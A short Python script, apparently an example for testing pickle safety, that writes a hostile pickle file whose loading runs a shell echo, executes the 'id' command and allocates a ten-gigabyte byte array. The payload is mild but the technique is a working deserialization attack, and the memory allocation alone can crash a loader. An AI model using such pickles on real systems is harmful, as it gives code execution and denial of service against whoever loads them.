"""Write hostile.pkl: what a pickle looks like that acts when it is loaded. It only says so on the terminal.

python examples/make_hostile.py > examples/hostile.pkl
"""

import os
import pickle
import subprocess
import sys


class Act:
    """Pickles as a call of whatever it is given."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


if __name__ == "__main__":
    record = {
        "user": 42,
        "session": Act(os.system, "echo this pickle has just run a command"),
        "thumbnail": Act(subprocess.check_output, ["id"]),
        "size": Act(bytearray, 10**10),
    }
    sys.stdout.buffer.write(pickle.dumps(record, protocol=4))
